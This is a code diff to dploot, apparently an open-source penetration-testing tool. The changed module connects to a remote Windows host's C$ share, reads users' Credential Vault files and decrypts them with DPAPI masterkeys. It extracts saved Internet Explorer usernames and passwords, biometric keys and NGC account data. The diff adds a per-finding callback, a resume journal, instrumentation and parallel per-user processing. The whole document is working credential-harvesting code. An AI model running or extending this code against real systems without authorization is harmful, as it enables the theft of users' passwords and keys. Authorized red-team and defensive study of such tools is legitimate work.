@@ -1,13 +1,15 @@
 import logging
 import ntpath
-from typing import Any, List
+from typing import Any, Callable, List
 from binascii import hexlify
 
 from impacket.dcerpc.v5.dtypes import RPC_SID
 from impacket.dpapi import VAULT_INTERNET_EXPLORER, VAULT_WIN_BIO_KEY, VAULT_NGC_ACCOOUNT
 
 from dploot.lib.dpapi import decrypt_vcrd, decrypt_vpol, find_masterkey_for_vpol_blob
+from dploot.lib.journal import get_journal
 from dploot.lib.smb import DPLootSMBConnection
+from dploot.lib.stats import instrument
 from dploot.lib.target import Target
 from dploot.lib.utils import is_guid
 from dploot.triage.masterkeys import Masterkey
@@ -50,8 +52,8 @@ class VaultsTriage:
 
     false_positive = ['.','..', 'desktop.ini','Public','Default','Default User','All Users']
     user_vault_generic_path = [
-        'Users\\%s\\AppData\\Local\\Microsoft\\Vault',
-        'Users\\%s\\AppData\\Roaming\\Microsoft\\Vault',
+        '%s\\AppData\\Local\\Microsoft\\Vault',
+        '%s\\AppData\\Roaming\\Microsoft\\Vault',
     ]
     system_vault_generic_path = [
         "Windows\\System32\\config\\systemprofile\\AppData\\Local\\Microsoft\\Vault",
@@ -64,14 +66,23 @@ class VaultsTriage:
     share = 'C$'
     vpol_filename = 'Policy.vpol'
 
-    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey]) -> None:
+    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey], per_finding_callback: Callable[[VaultCred], None] = None) -> None:
         self.target = target
         self.conn = conn
         
         self._users = None
         self.looted_files = dict()
         self.masterkeys = masterkeys
+        self.per_finding_callback = per_finding_callback
+        self.journal = get_journal(target)
 
+    def found(self, vault_cred: VaultCred) -> VaultCred:
+        ''' Hands vault_cred to per_finding_callback as soon as it is decrypted, before the triage returns '''
+        if self.per_finding_callback is not None:
+            self.per_finding_callback(vault_cred)
+        return vault_cred
+
+    @instrument()
     def triage_system_vaults(self) -> List[VaultCred]:
         vaults_creds = list()
         vault_dirs = self.conn.listDirs(self.share, self.system_vault_generic_path)
@@ -80,33 +91,31 @@ class VaultsTriage:
                 vaults_creds += self.triage_vaults_folder(user = 'SYSTEM', vaults_folder_path=system_vault_path,vaults_folder=system_vault_dir)
         return vaults_creds
 
+    @instrument()
     def triage_vaults(self) -> List[VaultCred]:
         vaults_creds = list()
-        for user in self.users:
-            try:
-                vaults_creds += self.triage_vaults_for_user(user) 
-            except Exception as e:
-                if logging.getLogger().level == logging.DEBUG:
-                    import traceback
-                    traceback.print_exc()
-                logging.debug(str(e))
-                pass
+        for user_vaults_creds in self.conn.map(self.triage_vaults_for_user, self.users):
+            vaults_creds += user_vaults_creds
         return vaults_creds
 
+    @instrument()
     def triage_vaults_for_user(self, user:str) -> List[VaultCred]:
         vaults_creds = list()
-        vault_dirs = self.conn.listDirs(self.share, [elem % user for elem in self.user_vault_generic_path])
+        vault_dirs = self.conn.listDirs(self.share, [elem % self.conn.user_profile_path(user) for elem in self.user_vault_generic_path])
         for user_vault_path,user_vault_dir in vault_dirs.items():
             if user_vault_dir is not None:
                 vaults_creds += self.triage_vaults_folder(user=user, vaults_folder_path=user_vault_path,vaults_folder=user_vault_dir)
         return vaults_creds
 
+    @instrument()
     def triage_vaults_folder(self, user, vaults_folder_path, vaults_folder) -> List[VaultCred]:
         vaults_creds = list()
         for d in vaults_folder:
             if is_guid(d.get_longname()) and d.is_directory()>0:
                 vault_dirname = d.get_longname()
                 vault_directory_path = ntpath.join(vaults_folder_path,vault_dirname)
+                if self.journal.is_done('vaults', user, vault_directory_path):
+                    continue
                 logging.debug("Found Vault Directory: \\\\%s\\%s\\%s\n" %  (self.target.address,self.share,vault_directory_path))
                 
                 # read vpol blob
@@ -133,6 +142,9 @@ class VaultsTriage:
                     else:
                         logging.debug("Could not decrypt...")
 
+                # every file of the vault was read and decrypted
+                complete = len(vpol_keys) > 0
+
                 # read vrcd blob
                 vault_dir = self.conn.remote_list_dir(self.share, vault_directory_path)
                 for file in vault_dir:
@@ -140,15 +152,17 @@ class VaultsTriage:
                     if filename != self.vpol_filename and filename not in self.false_positive and file.is_directory() == 0 and filename[-4:] == 'vcrd':
                         vrcd_filepath = ntpath.join(vault_directory_path,filename)
                         vrcd_bytes = self.conn.readFile(self.share, vrcd_filepath)
+                        complete = complete and vrcd_bytes is not None
                         self.looted_files[vault_dirname + '_' + vrcd_filepath] = vpolblob_bytes  
                         if vrcd_bytes is not None and filename[-4:] in ['vsch','vcrd'] and len(vpol_keys) > 0:
                             vault = decrypt_vcrd(vrcd_bytes, vpol_keys)
+                            complete = complete and vault is not None
                             try:
                                 if isinstance(vault, (VAULT_INTERNET_EXPLORER, VAULT_WIN_BIO_KEY, VAULT_NGC_ACCOOUNT)):
                                     if isinstance(vault, VAULT_INTERNET_EXPLORER):
-                                        vaults_creds.append(VaultCred(winuser=user, blob=vault, type=type(vault), username=vault['Username'].decode('utf-16le'),resource=vault['Resource'].decode('utf-16le'), password=vault['Password'].decode('utf-16le') ))
+                                        vaults_creds.append(self.found(VaultCred(winuser=user, blob=vault, type=type(vault), username=vault['Username'].decode('utf-16le'),resource=vault['Resource'].decode('utf-16le'), password=vault['Password'].decode('utf-16le') )))
                                     elif isinstance(vault, VAULT_WIN_BIO_KEY):
-                                        vaults_creds.append(VaultCred(winuser=user, blob=vault, type=type(vault), sid=RPC_SID(b'\x05\x00\x00\x00'+vault['Sid']).formatCanonical(), friendly_name=vault['Name'].decode('utf-16le'), biometric_key=(hexlify(vault['BioKey']['bKey'])).decode('latin-1')))
+                                        vaults_creds.append(self.found(VaultCred(winuser=user, blob=vault, type=type(vault), sid=RPC_SID(b'\x05\x00\x00\x00'+vault['Sid']).formatCanonical(), friendly_name=vault['Name'].decode('utf-16le'), biometric_key=(hexlify(vault['BioKey']['bKey'])).decode('latin-1'))))
                                     elif isinstance(vault, VAULT_NGC_ACCOOUNT):
                                         # take non existing keys into account
                                         try:
@@ -167,7 +181,7 @@ class VaultsTriage:
                                             cipher_text = hexlify(vault["CipherText"])
                                         except KeyError:
                                             cipher_text = None
-                                        vaults_creds.append(VaultCred(winuser=user, blob=vault, type=type(vault), sid=RPC_SID(b'\x05\x00\x00\x00'+vault['Sid']).formatCanonical(), friendly_name=vault['Name'].decode('utf-16le'), biometric_key=biometric_key, unlock_key=unlock_key, IV=iv, cipher_text=cipher_text))
+                                        vaults_creds.append(self.found(VaultCred(winuser=user, blob=vault, type=type(vault), sid=RPC_SID(b'\x05\x00\x00\x00'+vault['Sid']).formatCanonical(), friendly_name=vault['Name'].decode('utf-16le'), biometric_key=biometric_key, unlock_key=unlock_key, IV=iv, cipher_text=cipher_text)))
                                 else:
                                     logging.debug('Vault decrypted but unknown data structure:')
                             except Exception as e:
@@ -177,21 +191,15 @@ class VaultsTriage:
                                     traceback.print_exc()
                                 logging.debug(f'{str(e)} while parsing vault:{vault.__class__} {vault.__dict__}')
                                 pass
+                if complete:
+                    self.journal.done('vaults', user, vault_directory_path)
         return vaults_creds
 
     @property
     def users(self) -> List[str]:
         if self._users is not None:
             return self._users
-        
-        users = list()
 
-        users_dir_path = 'Users\\*'
-        directories = self.conn.listPath(shareName=self.share, path=ntpath.normpath(users_dir_path))
-        for d in directories:
-            if d.get_longname() not in self.false_positive and d.is_directory() > 0:
-                users.append(d.get_longname())
-    
-        self._users = users
+        self._users = [profile.username for profile in self.conn.list_user_profiles()]
 
         return self._users
\ No newline at end of file